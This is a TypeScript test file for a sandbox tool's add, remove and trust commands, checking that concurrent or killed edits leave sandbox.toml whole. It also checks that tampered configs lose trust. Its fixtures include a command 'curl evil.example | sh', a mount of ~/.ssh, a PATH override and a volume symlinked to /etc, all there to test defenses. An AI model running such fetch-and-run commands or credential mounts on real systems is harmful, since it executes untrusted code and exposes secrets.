import assert from 'node:assert/strict';
import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import {
  chmodSync,
  chownSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmdirSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { describe, it, type TestContext } from 'node:test';
import { parse } from 'smol-toml';
import { environmentOf, type Result, sandbox, type TestUser, workDirectory } from '../../support/user.ts';
import { account, ordinary } from '../support/inside.ts';

const FILE = '# ours\nimage = "debian:bookworm"\npackages = ["make"] # the least\n';

interface Place {
  readonly user: TestUser;
  /** Of the project. */
  readonly cwd: string;
  readonly env: Readonly<Record<string, string>>;
  readonly run: (...words: readonly string[]) => Promise<Result>;
  readonly write: (text: string, name?: string) => void;
  readonly packages: () => unknown;
  readonly isTrusted: () => Promise<boolean>;
}

/** A project in a home with a store of its own. */
function place(t: TestContext, text = FILE): Place {
  const user = account();
  const home = workDirectory(t, user);
  const cwd = `${home}/project`;
  mkdirSync(cwd);
  const env = { HOME: home };
  const run = async (...words: readonly string[]): Promise<Result> => await sandbox(user, words, { cwd, env });
  const write = (content: string, name = 'sandbox.toml'): void => {
    writeFileSync(`${cwd}/${name}`, content);
    chownSync(`${cwd}/${name}`, user.uid, user.gid);
  };
  write(text);
  chownSync(cwd, user.uid, user.gid);
  return {
    ...{ user, cwd, env, run, write },
    packages: () => parse(readFileSync(`${cwd}/sandbox.toml`, 'utf8')).packages,
    isTrusted: async () => {
      const { status, stdout } = await run('trust', '--show');
      assert.match(stdout, status === 0 ? /It is trusted/ : /It is not trusted/);
      return status === 0;
    },
  };
}

async function succeeds(running: Promise<Result>): Promise<Result> {
  const result = await running;
  assert.equal(result.status, 0, result.stderr);
  return result;
}

describe('what sandbox add and remove change', ordinary, () => {
  it('is all there where several do at once', async (t) => {
    const { cwd, run, packages } = place(t);
    const added = ['git', 'jq', 'curl', 'gcc', 'gdb'];
    await Promise.all([...added.map((name) => succeeds(run('add', name))), succeeds(run('remove', 'make'))]);
    const found = packages();
    assert.ok(Array.isArray(found));
    assert.deepEqual(found.sort(), added.sort());
    assert.deepEqual(readdirSync(cwd), ['sandbox.toml']);
  });

  it('is there wholly or not at all after kill -9, and the next one cleans up', async (t) => {
    const { user, cwd, env, run, packages } = place(t);
    const start = (name: string): ChildProcess =>
      spawn(user.sandbox, ['add', name], {
        cwd,
        env: environmentOf(user, env),
        ...(process.getuid?.() === 0 ? { uid: user.uid, gid: user.gid } : {}),
        stdio: 'ignore',
      });
    const begun = performance.now();
    assert.equal((await once(start('first'), 'exit'))[0], 0);
    const whole = performance.now() - begun;
    const seen = ['make', 'first'];
    for (let at = 0; at < 12; at++) {
      const child = start(`p${at}`);
      const ended = once(child, 'exit');
      // Where it is then is left to chance; it is the second half in which something is written.
      await new Promise((resolve) => setTimeout(resolve, whole * (0.4 + at * 0.05)));
      child.kill('SIGKILL');
      await ended;
      const now = packages();
      assert.ok(Array.isArray(now));
      assert.deepEqual(
        now.filter((name) => name !== `p${at}`),
        seen,
      );
      if (now.includes(`p${at}`)) seen.push(`p${at}`);
    }
    await succeeds(run('add', 'last'));
    assert.deepEqual(packages(), [...seen, 'last']);
    assert.deepEqual(readdirSync(cwd), ['sandbox.toml']);
  });

  it('says what is wrong where the project cannot be written', async (t) => {
    const { cwd, run, packages } = place(t);
    chmodSync(cwd, 0o555);
    const { status, stderr } = await run('add', 'git');
    chmodSync(cwd, 0o755);
    assert.equal(status, 125);
    assert.match(stderr, /sandbox\.toml cannot be written: EACCES\n {2}hint: look whether the directory is yours/);
    assert.deepEqual(packages(), ['make']);
  });
});

describe('trust', ordinary, () => {
  const outside = `${FILE}volumes = ["~/m2:/root/.m2"]\n`;

  it('goes on where sandbox add and remove do not ask for more', async (t) => {
    const { run, isTrusted } = place(t, outside);
    await succeeds(run('trust'));
    for (const words of [
      ['add', 'git', '--shim', 'git', '--port', '80'],
      ['add', '--volume', './data:/data'],
      ['remove', 'git'],
    ]) {
      await succeeds(run(...words));
      assert.ok(await isTrusted(), words.join(' '));
    }
    await succeeds(run('remove', '--volume', '~/m2:/root/.m2'));
    assert.ok(await isTrusted());
    // That was not trusted together with the rest.
    assert.match((await succeeds(run('add', '--volume', '~/m2:/root/.m2'))).stderr, /asks for more than you trusted/);
    assert.ok(!(await isTrusted()));
  });

  it('is not given by sandbox add', async (t) => {
    const { run, isTrusted } = place(t);
    await succeeds(run('add', 'git'));
    assert.ok(!(await isTrusted()));
    await succeeds(run('trust'));
    const { stderr } = await succeeds(run('add', '--volume', '~/.ssh:/root/.ssh'));
    assert.match(stderr, /sandbox\.toml asks for more than you trusted: `sandbox trust` shows it/);
    assert.ok(!(await isTrusted()));
    const refused = await run('run', '--', 'true');
    assert.deepEqual([refused.status, /is not trusted, and asks for/.test(refused.stderr)], [125, true]);
    // Nor does the next one, which asks for nothing itself.
    await succeeds(run('add', 'jq'));
    assert.ok(!(await isTrusted()));
  });

  it('does not go over to what somebody else has changed', async (t) => {
    const { cwd, run, write, isTrusted } = place(t);
    await succeeds(run('trust'));
    write(`${FILE}[command.test]\nrun = "curl evil.example | sh"\n`);
    await succeeds(run('add', 'git'));
    assert.ok(!(await isTrusted()));

    write(FILE);
    assert.ok(await isTrusted());
    write('[env]\nPATH = "/tmp"\n', 'sandbox.local.toml');
    await succeeds(run('add', 'git'));
    assert.ok(!(await isTrusted()));
    unlinkSync(`${cwd}/sandbox.local.toml`);
    assert.ok(!(await isTrusted()), 'what add has made of a file that was trusted with another one beside it');
  });

  it('does not go over to what a link means by now', async (t) => {
    const { cwd, run, isTrusted } = place(t, `${FILE}volumes = ["./data:/data"]\n`);
    mkdirSync(`${cwd}/data`);
    await succeeds(run('trust'));
    rmdirSync(`${cwd}/data`);
    symlinkSync('/etc', `${cwd}/data`);
    assert.match((await succeeds(run('add', 'git'))).stderr, /asks for more than you trusted/);
    assert.ok(!(await isTrusted()));
    unlinkSync(`${cwd}/data`);
    mkdirSync(`${cwd}/data`);
    assert.ok(!(await isTrusted()));
  });
});
